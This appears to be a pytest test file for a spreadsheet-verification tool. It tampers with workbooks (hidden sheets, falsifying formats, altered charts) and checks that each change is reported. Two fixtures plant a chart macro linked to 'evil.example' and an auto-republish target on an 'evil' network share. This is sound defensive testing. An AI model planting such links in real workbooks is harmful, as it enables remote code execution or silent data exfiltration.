"""A workbook whose cells are as built and which shows something else: every kind of it is named, and the exit status is 1."""

from __future__ import annotations

import re
import zipfile
from typing import TYPE_CHECKING

import openpyxl
import pytest
from click.testing import CliRunner
from support.books import default_book, small_book
from support.layouts import materials
from support.libreoffice import Session
from support.parts import sheet_parts
from support.repack import BOOK, TYPES, cell_xml
from support.tamper import (
    added,
    before_margins,
    blank,
    changed,
    charted,
    entry,
    formula,
    front,
    in_sheet,
    number,
    on_sheet,
    related,
    replaced,
    rewrite,
    sign_off,
    text,
    with_cell,
)

import specxl
from specxl import pipeline
from specxl.cli import main
from specxl.model.manifest import lay_manifest, read_manifest
from specxl.model.overlays import chart_code, overlay_codes, print_code, reference
from specxl.returned import verify_file
from specxl.returned.looks import find_looks, overlay_places
from specxl.returned.reading import looks_of, read_workbook
from specxl.returned.styles import format_fault
from specxl.sheets.anchors import place_of

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from support.tamper import Parts

    from specxl.model.cells import Book, Sheet
    from specxl.model.manifest import Manifest
    from specxl.returned.reading import WorkbookFile

    Change = Callable[[Parts], None]

pytestmark = pytest.mark.usefixtures("evaluated_here")

STYLES = "xl/styles.xml"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
NOTES_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ANCHOR = (
    "<xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
)


@pytest.fixture(scope="module")
def office() -> Iterator[Session]:
    """Return a running LibreOffice; skips the test where there is none."""
    with Session() as session:
        yield session


def sheet_named(*parts: str) -> str:
    """Return the first sheet whose name has one of these words."""
    return next(name for name in sheet_parts(small_book()) if any(part in name for part in parts))


def in_front(edit: Callable[[str], str]) -> Change:
    """A change of the XML of the first sheet."""
    return on_sheet(small_book, front, edit)


def in_results(edit: Callable[[str], str]) -> Change:
    """A change of the XML of Results."""
    return on_sheet(small_book, lambda _: "Results", edit)


def formats(code: str) -> Change:
    """Every number format of the workbook becomes another one."""
    return changed(STYLES, lambda xml: re.sub(r'formatCode="[^"]*"', f'formatCode="{code}"', xml))


def row_of(address: str) -> str:
    """Return the number of an address's row."""
    return re.sub("[A-Z]", "", address)


def hidden_row(attribute: str) -> Callable[[], Change]:
    """A row of the first sheet is hidden, in one of the ways that programs know."""
    number_of = row_of(text(small_book(), front(small_book()))[1])
    return lambda: in_front(lambda xml: _with_row(xml, number_of, attribute))


def _with_row(xml: str, number: str, attributes: str) -> str:
    """Give a row other attributes; its height goes, since no attribute may stand twice."""
    found = re.search(rf'<row r="{number}"[^>]*>', xml)
    assert found
    bare = re.sub(r' (?:ht|customHeight|hidden)="[^"]*"', "", found[0])
    return xml.replace(found[0], bare.replace(f'r="{number}"', f'r="{number}" {attributes}', 1), 1)


def columns(attributes: str) -> Change:
    """A definition of columns takes the place of the first one."""
    return in_front(lambda xml: re.sub(r"<col [^>]*/>", f"<col {attributes}/>", xml, count=1))


def state(name: str, value: str) -> Change:
    """A sheet gets another state."""
    return replaced(BOOK, f'<sheet name="{name}"', f'<sheet name="{name}" state="{value}"')


def imposter() -> tuple[Change, ...]:
    """The first sheet is hidden behind one that people added under almost the same name."""
    name, content = front(small_book()), f'<worksheet xmlns="{MAIN}"/>'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    return (
        added("xl/worksheets/own.xml", content.encode(), kind),
        related(BOOK, "worksheet", "worksheets/own.xml"),
        replaced(BOOK, "<sheets>", f'<sheets><sheet name="{name} " sheetId="998" r:id="rIdAdded"/>'),
        state(name, "veryHidden"),
    )


def over(shape: str) -> tuple[Change, ...]:
    """Something lies over the first sheet with charts."""
    anchor = f"<xdr:twoCellAnchor>{ANCHOR}{shape}<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
    return (changed("xl/drawings/drawing1.xml", lambda xml: xml.replace("</xdr:wsDr>", anchor)),)


def note() -> tuple[Change, ...]:
    """A note says that somebody approved."""
    sheet = front(small_book())
    address = formula(small_book(), "Results")[1]
    content = f'<comments xmlns="{MAIN}"><commentList><comment ref="{address}"><text><t>Approved by audit</t></text></comment></commentList></comments>'
    return (
        added("xl/comments1.xml", content.encode(), NOTES_TYPE),
        related(sheet_parts(small_book())[sheet], "comments", "../comments1.xml", "rIdNote"),
    )


def merged(xml: str) -> str:
    """A merged area over the first cells of a sheet."""
    if "<mergeCells" in xml:
        return re.sub(r"<mergeCells[^>]*>", '<mergeCells><mergeCell ref="A1:H20"/>', xml, count=1)
    return xml.replace("</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:H20"/></mergeCells>', 1)


def other_series(parts: Parts) -> None:
    """A chart draws a sheet that people added."""
    part = charted(small_book())[1]
    xml = parts[part].decode()
    reference = re.search(r"<c:(?:val|yVal)><c:numRef><c:f>([^<]*)</c:f>", xml)
    assert reference
    parts[part] = xml.replace(reference[1], "Raw!$B$1:$B$5", 1).encode()


def stale(parts: Parts) -> None:
    """A chart stores other points than its cells hold."""
    part = charted(small_book())[1]
    xml = parts[part].decode()
    points = re.search(r"<c:(?:val|yVal)>.*?</c:(?:val|yVal)>", xml, re.DOTALL)
    assert points
    parts[part] = xml.replace(points[0], re.sub(r"(<c:pt [^>]*><c:v>)[^<]*", r"\g<1>77777.5", points[0])).encode()


def fixed_name(parts: Parts) -> None:
    """A series has a typed name in place of a cell's."""
    part = charted(small_book())[1]
    parts[part] = re.sub(
        rb"<c:tx>.*?</c:tx>", b"<c:tx><c:v>Certified</c:v></c:tx>", parts[part], count=1, flags=re.DOTALL
    )


def held(find: Callable[[Path], tuple[str, str]], inner: str, kind: str = "") -> Callable[[], tuple[Change, ...]]:
    """A cell holds something else that looks the same."""

    def changes() -> tuple[Change, ...]:
        sheet, address = find(small_book())
        return (in_sheet(small_book(), sheet, with_cell(address, inner, kind)),)

    return changes


def array(xml: str) -> str:
    """A formula of Results becomes an array formula."""
    address = formula(small_book(), "Results")[1]
    cell = cell_xml(xml, address)
    return xml.replace(cell, cell.replace("<f>", f'<f t="array" ref="{address}">'))


def rich_value(xml: str) -> str:
    """A cell shows a picture over its value."""
    cell = cell_xml(xml, formula(small_book(), "Results")[1])
    return xml.replace(cell, cell.replace("<c ", '<c vm="1" ', 1))


def bars_only(xml: str) -> str:
    """A rule shows bars in place of figures."""
    rule = '<conditionalFormatting sqref="A1:Z99"><cfRule type="dataBar" priority="1"><dataBar showValue="0"/></cfRule></conditionalFormatting>'
    return xml.replace("</sheetData>", "</sheetData>" + rule, 1)


def calculation(attributes: str) -> Change:
    """Settings of the calculation."""
    return changed(BOOK, lambda xml: re.sub(r"<calcPr ", f"<calcPr {attributes} ", xml))


def one(change: Change) -> Callable[[], tuple[Change, ...]]:
    """One change as a case."""
    return lambda: (change,)


# What was done, of which kind it is, and words that say it.
TAMPERED: dict[str, tuple[Callable[[], tuple[Change, ...]], str, str]] = {
    "format that shows another number": (one(formats("&quot;0.05&quot;")), "format", "something else than the number"),
    "format that shows nothing": (one(formats(";;;")), "format", "hides"),
    "format that shows thousandths": (one(formats("0.00,")), "format", "beside the number|smaller"),
    "format that says thousands": (one(formats("0.00&quot;k&quot;")), "format", "beside the number"),
    "format that shows dates": (one(formats("d mmmm yyyy")), "format", "number format of a date"),
    "format of an ISO date": (one(formats("yyyy-mm-dd")), "format", "number format of a date"),
    "row hidden": (lambda: (hidden_row('hidden="1"')(),), "hidden", r"row \d+ is hidden"),
    "row of no height": (lambda: (hidden_row('ht="0" customHeight="1"')(),), "hidden", r"row \d+ is hidden"),
    "row of a hair": (lambda: (hidden_row('hidden="false" ht="0.75"')(),), "hidden", r"row \d+ is hidden"),
    "column hidden": (one(columns('min="1" max="3" width="9" hidden="true"')), "hidden", "column A, B, C are hidden"),
    "column of no width": (one(columns('min="1" max="1" width="0"')), "hidden", "column A is hidden"),
    "column of a hair": (one(columns('min="2" max="2" width="0.1" customWidth="1"')), "hidden", "column B is hidden"),
    "sheet hidden": (lambda: (state("Checks", "hidden"),), "hidden", "the sheet is hidden"),
    "sheet very hidden": (lambda: (state("Checks", "veryHidden"),), "hidden", "no menu shows it"),
    "sheet behind an imposter": (imposter, "sheet", "almost the same name"),
    "zeros not shown": (one(in_front(lambda xml: xml.replace("<sheetView ", '<sheetView showZeros="0" ', 1))), "hidden", "zero"),
    "formulas shown": (one(in_front(lambda xml: xml.replace("<sheetView ", '<sheetView showFormulas="1" ', 1))), "hidden", "formulas"),
    "rows hidden by default": (one(in_front(lambda xml: xml.replace("<sheetFormatPr ", '<sheetFormatPr zeroHeight="1" ', 1))), "hidden", "unless"),
    "filter on a sheet": (one(in_front(before_margins('<autoFilter ref="A1:B9"><filterColumn colId="0"/></autoFilter>'))), "hidden", "filter"),
    "bars in place of figures": (one(in_front(bars_only)), "hidden", "bars or symbols"),
    "precision as displayed": (one(calculation('fullPrecision="0"')), "setting", "precision as displayed"),
    "manual calculation": (one(calculation('calcMode="manual"')), "setting", "manual calculation"),
    "calculation but for tables": (one(calculation('calcMode="autoNoTable"')), "setting", "manual calculation"),
    "iterative calculation": (one(calculation('iterate="true"')), "setting", "iterative"),
    "dates from 1904": (one(changed(BOOK, lambda xml: xml.replace("<workbookPr ", '<workbookPr date1904="1" '))), "setting", "1904"),
    "tabs hidden": (one(changed(BOOK, lambda xml: xml.replace("<workbookView ", '<workbookView showSheetTabs="0" '))), "setting", "tabs"),
    "picture": (lambda: over("<xdr:pic/>"), "overlay", "a picture at B3"),
    "text box": (lambda: over("<xdr:sp><xdr:txBody/></xdr:sp>"), "overlay", "a text box or shape at B3"),
    "group of shapes": (lambda: over("<xdr:grpSp><xdr:sp/></xdr:grpSp>"), "overlay", "a group of shapes at B3"),
    "line": (lambda: over("<xdr:cxnSp/>"), "overlay", "a line at B3"),
    "note": (note, "overlay", "a note lies on"),
    "charts not shown": (one(changed(BOOK, lambda xml: xml.replace("<workbookPr ", '<workbookPr showObjects="none" '))), "setting", "charts are not shown"),
    "trend line": (one(lambda parts: parts.update({charted(small_book())[1]: parts[charted(small_book())[1]].replace(b"</c:ser>", b"<c:trendline><c:name>Audited</c:name></c:trendline></c:ser>", 1)})), "chart", "a trend line"),
    "thread of comments": (lambda: (added("xl/threadedComments/t1.xml", b"<a/>", "application/vnd.ms-excel.threadedcomments+xml"), related(sheet_parts(small_book())[front(small_book())], "http://schemas.microsoft.com/office/2017/10/relationships/threadedComment", "../threadedComments/t1.xml", "rIdThread")), "overlay", "a thread of comments"),
    "totals of a table": (one(changed("xl/tables/table1.xml", lambda xml: xml.replace("<table ", '<table totalsRowCount="1" ', 1))), "overlay", "a row of totals"),
    "macro on a chart": (one(changed("xl/drawings/drawing1.xml", lambda xml: re.sub(r"<xdr:graphicFrame[^>]*>", '<xdr:graphicFrame macro="\'http://evil.example/x.xlsm\'!Evil">', xml, count=1))), "overlay", "a macro that starts with a click"),
    "published at every save": (one(in_front(before_margins('<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="\\\\evil\\s\\x.htm" autoRepublish="1"/></webPublishItems>'))), "overlay", "published whenever the file is saved"),
    "picture behind": (one(in_front(lambda xml: xml.replace("<drawing ", '<picture r:id="rId1"/><drawing ', 1))), "overlay", "behind"),
    "merged cells": (one(in_results(merged)), "overlay", "lies under cells that were merged"),
    "series of another sheet": (one(other_series), "chart", "none of the cells of the build"),
    "points of a chart": (one(stale), "chart", "77777.5"),
    "name of a series": (one(fixed_name), "chart", "fixed name 'Certified'"),
    "array formula": (one(in_results(array)), "content", "an array formula"),
    "picture in a cell": (one(in_results(rich_value)), "content", "a picture or a linked data type"),
    "truth value": (held(lambda path: number(path, "Measurements"), "<v>1</v>", ' t="b"'), "content", "a truth value"),
    "date": (held(lambda path: number(path, "Measurements"), "<v>2026-01-01</v>", ' t="d"'), "content", "a date"),
    "error value": (held(entry, "<v>#N/A</v>", ' t="e"'), "content", "an error value"),
}  # fmt: skip


@pytest.mark.parametrize("case", TAMPERED, ids=str)
def test_what_shows_something_else_is_named(case: str, tmp_path: Path) -> None:
    """What hides, covers or falsifies figures whose cells are as built is a difference, in words."""
    changes, kind, words = TAMPERED[case]
    report = verify_file(rewrite(small_book(), tmp_path / "tampered.xlsx", *changes()))
    assert [d for d in report.differences if d.kind == kind and re.search(words, str(d))] != []
    assert (report.outcome, report.exit_status) == ("altered", 1)


# What people may do to their own copy is said, and changes no verdict.


def filtered(parts: Parts) -> None:
    """The filter of a table is set, and hides some of its rows."""
    table = next(name for name in parts if name.startswith("xl/tables/"))
    xml = parts[table].decode()
    area = re.search(r'<autoFilter ref="[A-Z]+(\d+):[A-Z]+(\d+)"', xml)
    assert area
    own = f'{area[0]}><filterColumn colId="0"><filters><filter val="1"/></filters></filterColumn></autoFilter>'
    parts[table] = re.sub(re.escape(area[0]) + r"(/>|></autoFilter>)", own, xml).encode()
    sheet = sheet_parts(small_book())["Results"]
    for row in range(int(area[1]) + 2, int(area[2])):
        parts[sheet] = parts[sheet].replace(f'<row r="{row}"'.encode(), f'<row r="{row}" hidden="1"'.encode())


NOTED: dict[str, tuple[Change, str]] = {
    "protection": (in_front(lambda xml: re.sub(r"<sheetProtection[^>]*>", "", xml)), "not protected any more"),
    "protection off": (in_front(lambda xml: xml.replace('<sheetProtection sheet="1"', '<sheetProtection sheet="0"')), "not protected any more"),
    "entry rules": (on_sheet(small_book, lambda path: entry(path)[0], lambda xml: re.sub(r"<dataValidations.*</dataValidations>", "", xml)), "may be entered is gone"),
    "order": (changed(BOOK, lambda xml: re.sub(r"(<sheets>)(<sheet [^>]*/>)(<sheet [^>]*/>)", r"\1\3\2", xml)), "another order"),
    "filter": (filtered, "a filter is set; it hides"),
    "name": (replaced(BOOK, "</definedNames>", '<definedName name="mine">Results!$A$1</definedName></definedNames>'), "the name 'mine' was defined"),
}  # fmt: skip


@pytest.mark.parametrize("case", NOTED, ids=str)
def test_what_people_may_do_is_only_said(case: str, tmp_path: Path) -> None:
    """Lifting the protection, sorting tabs and filtering a table leave a workbook as built, and are mentioned."""
    change, words = NOTED[case]
    report = verify_file(rewrite(small_book(), tmp_path / "noted.xlsx", change))
    assert [note for note in report.noted if words in note] != []
    assert (report.outcome, report.exit_status) == ("unchanged", 0)


def test_a_workbook_as_built_and_saved_again_is_noted_in_nothing(office: Session, tmp_path: Path) -> None:
    """LibreOffice and openpyxl save nothing that any of these rules takes for a change."""
    book = default_book()
    office.open(book)
    office.save(tmp_path / "again.xlsx")
    native = openpyxl.load_workbook(book)
    native.save(tmp_path / "native.xlsx")
    for path in (book, tmp_path / "again.xlsx", tmp_path / "native.xlsx"):
        report = verify_file(path)
        assert (report.differences, report.noted, report.active_content) == ((), (), ())


# Codes of what lies over the cells


def model_of() -> Book:
    """Return the model of the default workbook, without evaluating it."""
    house = pipeline.House.load(None)
    dataset = pipeline.load([pipeline.data_file(pipeline.PUBLISHED)], house, specxl.DatasetOptions())
    layout = pipeline.build_book(materials(dataset, house, specxl.BuildOptions()))
    lay_manifest(layout.book, [place_of(anchor) for anchor in layout.plan.anchors])  # which ends what About prints
    return layout.book


def charts_of(sheets: list[Sheet]) -> int:
    """Return how many charts the sheets of a model have."""
    return sum(len(sheet.charts) for sheet in sheets)


def test_codes_of_the_model_are_those_of_the_file_and_of_its_copy(office: Session, tmp_path: Path) -> None:
    """Charts, tables and print areas have one code in the model, in the file, and after another program saved it."""
    office.open(default_book())
    office.save(tmp_path / "again.xlsx")
    model = model_of()
    assert charts_of(model.sheets) > 3
    for path in (default_book(), tmp_path / "again.xlsx"):
        file = read_workbook(path)
        for sheet in model.sheets:
            now = overlay_places(file, sheet.name)
            assert sorted(code for code, places in now.items() for _ in places) == sorted(overlay_codes(sheet))


def manifest_of(file: WorkbookFile) -> Manifest:
    """Return the manifest that stands in a file."""
    read = read_manifest(file.book)
    assert read
    return read[0]


def dropped_chart(parts: Parts) -> None:
    """A chart disappears from its drawing."""
    parts["xl/drawings/drawing1.xml"] = re.sub(
        rb"<xdr:twoCellAnchor.*?</xdr:twoCellAnchor>", b"", parts["xl/drawings/drawing1.xml"], count=1, flags=re.DOTALL
    )


def shifted_series(parts: Parts) -> None:
    """A chart draws other cells of the same sheet, with the points that these hold."""
    part = charted(default_book())[1]
    xml = parts[part].decode()
    found = re.search(r"<c:(?:val|yVal)><c:numRef><c:f>([^<]*\$)(\d+)(:[^<]*\$)(\d+)</c:f>", xml)
    assert found
    other = found[0].replace(f"${found[2]}:", f"${int(found[2]) + 1}:").replace(f"{found[4]}<", f"{int(found[4]) + 1}<")
    parts[part] = re.sub(r"<c:numCache>.*?</c:numCache>", "", xml.replace(found[0], other), flags=re.DOTALL).encode()


def other_title(parts: Parts) -> None:
    """The title of an axis says something else."""
    part = charted(default_book())[1]
    parts[part] = re.sub(rb"(<c:title>.*?<a:t>)[^<]*", rb"\1Certified", parts[part], count=1, flags=re.DOTALL)


OVERLAYS: dict[str, tuple[Change, str]] = {
    "chart removed": (dropped_chart, "1 chart of the build is missing or changed"),
    "series moved by a row": (shifted_series, "is not as built"),
    "title of an axis": (other_title, "is not as built"),
    "table removed": (
        lambda parts: parts.update({name: re.sub(rb'ref="A\d+:', b'ref="B1:', data) for name, data in parts.items() if name.startswith("xl/tables/")}),
        "1 table of the build is missing or changed",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", OVERLAYS, ids=str)
def test_with_the_codes_of_the_build_charts_and_tables_are_compared(case: str, tmp_path: Path) -> None:
    """What only the codes in the manifest can tell: a chart that is gone, draws other cells of the build, or is called otherwise."""
    change, words = OVERLAYS[case]
    file = read_workbook(rewrite(default_book(), tmp_path / "chart.xlsx", change))
    manifest = manifest_of(file)
    found = find_looks(file, manifest)
    assert [d for d in found.differences if d.kind == "chart" and words in str(d)] != []
    assert find_looks(read_workbook(default_book()), manifest).differences == []


def test_another_print_area_is_only_said(tmp_path: Path) -> None:
    """What is printed is the business of who prints; with the build's codes it is mentioned."""
    change = changed(BOOK, lambda xml: re.sub(r"(_xlnm.Print_Area[^<]*\$A\$1:\$)[A-Z]+\$\d+", r"\1B$2", xml, count=1))
    file = read_workbook(rewrite(default_book(), tmp_path / "print.xlsx", change))
    found = find_looks(file, manifest_of(file))
    assert (found.differences, [note for note in found.noted if "prints another area" in note] != []) == ([], True)


def test_references_have_one_form() -> None:
    """Quotes, dollar signs, case and an area of one cell do not matter; another cell does."""
    same = ("'B 300'!$A$7:$A$7", "'b 300'!A7", "='B 300'!$A$7", "'B 300'! A7:A7")
    assert {reference(text) for text in same} == {"B300!A7"}
    assert chart_code("bar", [("A!A1", "A!$B$1:$B$2", "A!C1:C2")], ["t"]) == chart_code(
        "bar", [("'A'!$A$1", "A!B1:B2", "A!C1:C2")], ["t"]
    )
    assert chart_code("bar", [("A!A1", "A!B1:B2", "A!C1:C2")], []) != chart_code(
        "bar", [("A!A1", "A!B1:B2", "A!C1:C3")], []
    )
    assert print_code(["A1:B2", "C1"]) == print_code(["$C$1", "$A$1:$B$2"])


# Number formats

SHOWING = (
    "General", "0", "0.00", "#,##0.0#", "[<0.01]0.00000;[<10]0.000;#,##0.00", '0.00"x"', r"0.00\x", r"\~#,##0", "0.0%",
    "mm/dd/yy", "[$-407]dd.mm.yyyy", "d mmmm yyyy", "yyyy-mm-dd", r"yyyy\-mm\-dd", "[$$-409]#,##0.000", "[$€-407] 0.00", "0.0;[Red]-0.0", "#,##0_);(#,##0)", "[<0]-0;0", "@", "0.00E+00",
    '_(* #,##0.00_);_(* \\(#,##0.00\\);_(* "-"??_);_(@_)',
)  # fmt: skip
FALSIFYING = (
    ";;;", "0;;", ";", '"0.05"', '"0"', r"\0\.\0\5", '0"5"', "0,", "#,##0,", '0.0,,"M"', '0"k"', "# ?/?", "[h]:mm", "d/m", "yyyy", "mm:ss", '0;0;"0"',
    '0;0;0;"ok"', "0;0;0;", "", '0"', "[>1]0;;", "0 0", "0.0.0", "[DBNum1]0", "0.0;0.0", r"0\ %;0\ %",
    "#,##0;#,##0;0", "-0.0", "[Red]-0.0", "(0)", '"-"0', "[<0]0;0", "[>=0]0;0", "[>-5]0;0",
)  # fmt: skip


@pytest.mark.parametrize("code", SHOWING)
def test_formats_that_show_the_number_pass(code: str) -> None:
    """A format of digits, signs, a currency or a date in ISO form shows what the cell holds."""
    assert format_fault(code) == ""


@pytest.mark.parametrize("code", FALSIFYING)
def test_formats_that_hide_or_falsify_are_named(code: str) -> None:
    """A format that shows no digits, a part of them, fixed ones or a thousandth is named."""
    assert format_fault(code) != ""


# What the report says


def test_text_of_the_file_is_cleaned_before_it_is_printed(tmp_path: Path) -> None:
    """A forged version, and names with controls, direction marks and line breaks: no line of the report is the file's."""
    root = verify_file(small_book()).root_digest
    forged = f"0.1.0, root digest {'0' * 32}&#10;all well\u202e&#133;"
    copy = rewrite(
        small_book(),
        tmp_path / "forged.xlsx",
        changed("docProps/custom.xml", lambda xml: re.sub(r'(name="specxl version"><vt:lpwstr>)[^<]*', rf"\g<1>{forged}", xml)),
        replaced(BOOK, "</definedNames>", '<definedName name="a&#10;b\u202ec">Results!$A$1</definedName></definedNames>'),
    )  # fmt: skip
    run = CliRunner().invoke(main, ["verify", str(copy)])
    lines = run.stdout.splitlines()
    assert "built by specxl (unknown version)" in lines
    assert [line for line in lines if line.startswith("root digest")] == [f"root digest {root}"]
    assert "0" * 32 not in run.stdout
    assert not re.search("[\u0080-\u009f\u202a-\u202e]|\nall well", run.stdout)
    assert "the name 'a bc' was defined" in run.stdout


@pytest.mark.parametrize("version", ["0.1.0", "1.2", "0.2.0.dev3", "1.0rc1"])
def test_a_version_that_looks_like_one_is_said(version: str, tmp_path: Path) -> None:
    """Versions of releases and of what is built between them."""
    edit = lambda xml: re.sub(r'(name="specxl version"><vt:lpwstr>)[^<]*', rf"\g<1>{version}+x", xml)  # noqa: E731
    report = verify_file(rewrite(small_book(), tmp_path / "version.xlsx", changed("docProps/custom.xml", edit)))
    assert report.built_by == f"{version}+x"


@pytest.mark.parametrize(
    ("digest", "status"), [("own", 0), ("OWN", 0), ("0" * 32, 1), ("f" * 64, 1), ("xyz", 2), ("12", 2)]
)
def test_the_expected_digest_is_compared(digest: str, status: int) -> None:
    """The digest that the build printed passes in either case; another is an alteration, and no digest at all a wrong use."""
    own = verify_file(small_book()).root_digest
    given = {"own": own, "OWN": own.upper()}.get(digest, digest)
    run = CliRunner().invoke(main, ["verify", "--expect-digest", given, str(small_book())])
    assert run.exit_code == status
    if status == 1:
        assert f"NOT the one expected, {digest}" in run.stdout
        assert "this is another build" in run.stdout


def test_letters_that_an_output_lacks_are_question_marks(tmp_path: Path) -> None:
    """A report goes to an output of western letters without an error, whatever the names in it."""
    copy = rewrite(small_book(), tmp_path / "名前.xlsx", state("Checks", "hidden"))
    run = CliRunner(charset="latin-1").invoke(main, ["verify", str(copy)])
    assert (run.exit_code, run.exception is None or isinstance(run.exception, SystemExit)) == (1, True)
    assert "??.xlsx" in run.stdout


def test_looks_of_a_workbook_are_read_alone() -> None:
    """The facts about sheets are there for any workbook that was built, by the names of its sheets."""
    looks = looks_of(small_book())
    assert list(looks) != []
    assert all(found.state == "visible" and found.facts.protected for found in looks.values())
    assert looks[front(small_book())].formats == {}


def test_the_helper_finds_its_cells() -> None:
    """What the tests strike is there: an input, a sign-off line, and a place where nothing stands."""
    with zipfile.ZipFile(small_book()) as package:
        assert {STYLES, TYPES, BOOK} <= set(package.namelist())
    sheet, address = blank(small_book(), front(small_book()))
    assert openpyxl.load_workbook(small_book())[sheet][address].value is None
    assert sign_off(small_book())[0] == "About"
    assert entry(small_book())[0] != sheet_named("Checks")
